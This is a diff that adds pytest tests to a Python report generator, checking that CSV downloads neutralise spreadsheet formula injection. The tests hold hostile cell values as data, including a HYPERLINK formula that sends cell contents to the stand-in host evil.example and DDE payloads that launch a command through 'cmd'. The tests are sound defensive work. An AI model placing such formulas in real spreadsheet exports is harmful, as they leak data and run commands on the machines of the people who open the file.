@@ -2,8 +2,16 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from dataclasses import dataclass
 
+import pytest
+
+from generator import charts
+from generator.comparators import Comparator
+from generator.models import Kpi
+from generator.output_safety import safe_cell
 from generator.render_memo import RenderMemo
 
 
@@ -36,3 +44,65 @@ def test_a_kept_page_changed_in_place_is_rendered_again_not_served():
     memo.end()
     memo.begin(("shared",))
     assert memo.get(page) is None
+
+
+# --- CSV downloads: no cell a spreadsheet would run ----------------------------------------------
+
+
+HOSTILE_KPI = Kpi.model_validate(
+    {
+        "id": "cla",
+        "title": "Children looked after",
+        "definition": "d",
+        "theme": "t",
+        "unit": "count",
+        "polarity": "information only",
+        "frequency": "monthly",
+        "source": {"doc": "s", "where": "+table 1"},
+        "values": [{"period": "2016-01", "value": -4.5}, {"period": "2022-12", "value": 551, "note": "\tnote"}],
+        "benchmarks": [{"name": "england", "values": [{"period": "2022-12", "value": 420}]}],
+    }
+)
+
+
+def _csv_cells(source_title: str, area_name: str, label: str) -> list[list[str]]:
+    comparators = [Comparator(name="england", label=label, short_label=label)]
+    rows = charts.table_rows(HOSTILE_KPI, lambda doc: source_title, area_name, comparators)
+    return list(csv.reader(io.StringIO(charts.csv_text(rows))))
+
+
+def test_a_source_title_starting_with_equals_is_not_a_formula_in_the_csv():
+    cells = _csv_cells('=HYPERLINK("http://evil.example/?"&A1,"click")', "Northby", "England")
+    sources = {row[6] for row in cells[1:]}
+    assert sources == {'\'=HYPERLINK("http://evil.example/?"&A1,"click"), +table 1'}
+
+
+def test_an_area_name_starting_with_at_is_not_a_formula_in_the_csv():
+    cells = _csv_cells("Paper", "@SUM(1+1)*cmd|' /C calc'!A0", "England")
+    assert {row[1] for row in cells[1:] if row[1] != "England"} == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
+
+
+def test_a_comparator_label_starting_with_minus_is_not_a_formula_but_a_negative_value_stays_a_number():
+    cells = _csv_cells("Paper", "Northby", "-2+3+cmd|' /C calc'!A0")
+    assert ["2022-12", "'-2+3+cmd|' /C calc'!A0", "420", "", "", "no", "Paper, +table 1"] in cells
+    assert ["2016-01", "Northby", "-4.5", "", "", "no", "Paper, +table 1"] in cells
+
+
+@pytest.mark.parametrize(
+    ("value", "numeric", "written"),
+    [
+        ("=1+1", False, "'=1+1"),
+        ("+44 1234", False, "'+44 1234"),
+        ("-5", False, "'-5"),  # text that looks like a number is still text
+        ("-5", True, "-5"),
+        ("-5e3", True, "-5e3"),
+        ("-1+cmd", True, "'-1+cmd"),  # a number column holding something else is text
+        ("@x", False, "'@x"),
+        ("\tx", False, "'\tx"),
+        ("\rx", False, "'\rx"),
+        ("plain", False, "plain"),
+        ("", True, ""),
+    ],
+)
+def test_each_formula_start_is_neutralised(value, numeric, written):
+    assert safe_cell(value, numeric) == written
